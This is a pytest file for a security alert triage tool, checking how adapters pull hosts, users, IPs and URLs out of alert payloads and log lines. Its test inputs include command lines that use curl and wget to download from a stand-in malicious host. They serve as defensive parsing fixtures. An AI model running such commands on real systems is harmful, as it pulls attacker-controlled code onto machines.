"""What a type beside an id or a name tells, and names that payloads give machines, accounts and links."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from typing import Any

import pytest

from triage.intake.adapters import chronicle, defender_hunting, ecs, generic, keyvalue, logline, sentinelone, syslog
from triage.intake.lines.pairs import labelled_columns
from triage.intake.read import read_payload
from triage.model.alert import Alert

HOST, ANA, BAD = ("LABSRV07",), ("ana.lima",), ("http://bad.example/a",)
OUT, IN = "203.0.113.7", "10.1.2.3"
COLUMNS = (
    "Virus found,IP Address: 203.0.113.7,Computer name: LABSRV07,Risk name: Test, a mild one,Event time: "
    "2026-01-02 03:04:05,User Name: ana.lima,Location: Lab"
)


def read(payload: dict[str, Any]) -> Alert:
    (alert,) = read_payload({"title": "x", **payload}, adapters={"generic": generic.ADAPTER})
    return alert


def now() -> datetime:
    return datetime(2026, 1, 3, tzinfo=UTC)


@pytest.mark.parametrize(
    ("payload", "hosts"),
    [
        ({"entityType": "DEVICE", "entityName": "LABSRV07"}, HOST),
        ({"entities": [{"entity_type": "machine", "entity_id": "LABSRV07"}]}, HOST),
        ({"objects": [{"objectType": "computer", "objectName": "LABSRV07"}]}, HOST),
        ({"resource": {"resourceType": "INSTANCE", "name": "LABSRV07"}}, HOST),
        ({"resources": [{"resource_type": "AwsEc2Instance", "resource_name": "LABSRV07"}]}, HOST),
        ({"affected_assets": ["LABSRV07"]}, HOST),
        ({"endpoint": "LABSRV07"}, HOST),
        ({"victim": "lab-srv-07"}, ("lab-srv-07",)),
        ({"event": {"LOCALNAME": "LABSRV07"}}, HOST),
        ({"device": {"name": "Lima,Ana NOTEBOOK"}}, ("Lima,Ana NOTEBOOK",)),
        ({"pod": {"name": "web-7f9c"}}, ("web-7f9c",)),
        ({"helo": "mx1.bad.example"}, ("mx1.bad.example",)),
        ({"helo": "mx1.bad.example", "hostname": "LABSRV07"}, HOST),
        ({"instance": {"name": "Console"}}, ()),
        ({"entityType": "file", "entityName": "LABSRV07"}, ()),
        ({"asset": "WINDOWS11"}, ()),
        ({"device": "CVE-2026-1234"}, ()),
        ({"entityType": ["DEVICE"], "entityName": None}, ()),
    ],
)
def test_hosts__by_the_type_beside_and_by_fleet_names(payload: dict[str, Any], hosts: tuple[str, ...]) -> None:
    assert read(payload).hosts == hosts


@pytest.mark.parametrize(
    ("payload", "users"),
    [
        ({"entity_type": "user", "entity_id": "ana.lima"}, ANA),
        ({"actors": [{"type": "user", "id": "ana.lima"}]}, ANA),
        ({"initiator": "ana.lima"}, ANA),
        ({"violator": "ana.lima"}, ANA),
        ({"session": {"owner": "ana.lima"}}, ANA),
        ({"sessionOwner": "ana.lima"}, ANA),
        ({"userName": "ana.lima", "authorName": "Lab"}, ANA),
        ({"entity_type": "user", "entity_id": 7}, ()),
        ({"ticket": {"owner": "ana.lima"}}, ()),
        ({"initiator": "Scheduled scan"}, ()),
        ({"deviceOwner": "ana.lima@example.org"}, ("ana.lima@example.org",)),
        ({"deviceOwner": "Laboratory"}, ()),
        ({"created_by": "System"}, ()),
    ],
)
def test_users__typed_and_acting(payload: dict[str, Any], users: tuple[str, ...]) -> None:
    assert read(payload).users == users


@pytest.mark.parametrize(
    ("payload", "urls"),
    [
        ({"process": {"command_line": "curl -s http://bad.example/a -o /tmp/b"}}, BAD),
        ({"cmdline": "sh -c 'wget http://bad.example/a'"}, BAD),
        ({"url": "http://bad.example/a", "cmd": "curl http://other.example/"}, BAD),
        ({"server": "bad.example", "url": "/a", "method": "GET"}, BAD),
        ({"note": "see http://bad.example/a"}, ()),
    ],
)
def test_urls__in_commands_where_no_other(payload: dict[str, Any], urls: tuple[str, ...]) -> None:
    assert read(payload).urls == urls


def test_hosts__the_server_that_a_proxy_stands_before() -> None:
    assert read({"server": "shop.example", "url": "/a", "method": "GET"}).hosts == ("shop.example",)
    assert read({"server": "shop.example"}).hosts == ()


def test_ends__a_machine_beside_the_console_acts() -> None:
    alert = read({"headend_addr": "10.9.9.9", "dvchost": "10.9.9.9", "host_ip": IN, "dst_ip": OUT})
    assert (alert.source_ip, alert.destination_ip) == (IN, OUT)


def test_columns__labels_decide_where_a_part_begins() -> None:
    (alert,) = logline.read(COLUMNS, now)
    assert isinstance(alert, Alert)
    assert logline.ADAPTER.recognises(COLUMNS)
    assert (alert.hosts, alert.users, alert.source_ip) == (HOST, ANA, OUT)
    assert alert.raw["fields"]["Risk name"] == "Test, a mild one"
    line = f"<13>Jan  2 03:04:05 gate1 Vendor: lab-srv-07,{COLUMNS.replace('Computer name: LABSRV07', 'Count: 1')}"
    (alert,) = syslog.read(line, now)
    assert isinstance(alert, Alert)
    assert alert.hosts == ("lab-srv-07",)


def test_columns__what_an_intruder_writes_changes_no_end_and_no_user() -> None:
    planted = COLUMNS.replace("a mild one", "User Name: boss,IP Address: 10.9.9.9,Severity: Low")
    (before,), (after,) = logline.read(COLUMNS, now), logline.read(planted, now)
    assert isinstance(before, Alert)
    assert isinstance(after, Alert)
    assert (after.source_ip, after.destination_ip, after.severity) == (OUT, None, before.severity)


def test_logline__json_behind_a_head_is_not_a_line() -> None:
    inner = json.dumps({"rule": "x", "output": "a=1 b=2 c=3 d=4 e=5 f=6", "hostname": "LABSRV07"})
    assert not logline.ADAPTER.recognises(f"<5>2026-01-02T03:04:05Z 0a1b2c3d4e5f app[1]: {inner}")


def test_keyvalue__the_site_where_no_machine_is_named() -> None:
    line = "src_ip=203.0.113.7 cat=attack http_host=shop.example http_url=/ "
    assert [alert.hosts for alert in keyvalue.read(line, now) if isinstance(alert, Alert)] == [("shop.example",)]
    for more, hosts in (("shost=LABSRV07", HOST), ("devname=FW01", ("shop.example",))):
        read_again = keyvalue.read(f"{line}{more}", now)
        assert [alert.hosts for alert in read_again if isinstance(alert, Alert)] == [hosts]


def test_ecs__the_one_related_address_stands_in() -> None:
    payload = {"@timestamp": "2026-01-02T03:04:05Z", "event": {"kind": "alert"}, "related": {"ip": [OUT]}}
    (alert,) = ecs.read(payload)
    assert isinstance(alert, Alert)
    assert (alert.source_ip, ecs.STANDS_IN in alert.notes) == (OUT, True)
    (alert,) = ecs.read({**payload, "related": {"ip": [OUT, IN]}})
    assert isinstance(alert, Alert)
    assert alert.source_ip is None


def test_chronicle__names_before_numbers() -> None:
    user = {"userid": "0", "userDisplayName": "root"}
    (alert,) = chronicle.read({"udm": {"metadata": {"eventType": "X"}, "principal": {"user": user}}})
    assert isinstance(alert, Alert)
    assert alert.users == ("root",)


def test_defender_hunting__links_of_a_mail() -> None:
    row = {"AlertId": "1", "EntityType": "MailMessage", "Timestamp": "2026-01-02T03:04:05Z", "Title": "x"}
    (alert,) = defender_hunting.read({**row, "AdditionalFields": json.dumps({"Urls": list(BAD)})})
    assert isinstance(alert, Alert)
    assert alert.urls == BAD


def test_sentinelone__the_resource_where_no_agent_is() -> None:
    told = {"analystVerdict": "UNDEFINED", "detectionSource": {"product": "Identity"}, "name": "x"}
    seen = {"asset": {"name": "Unknown"}, "rawData": {"resources": [{"name": "LABSRV07"}]}}
    (alert,) = sentinelone.read({**told, **seen})
    assert isinstance(alert, Alert)
    assert alert.hosts == HOST


@pytest.mark.parametrize("unit", ["Ab: x,", "a,:", ", x: ", "Ab: x, y "])
def test_columns__linear_time(unit: str) -> None:
    started = time.perf_counter()
    labelled_columns((unit * 200_000)[:200_000])
    assert time.perf_counter() - started < 1
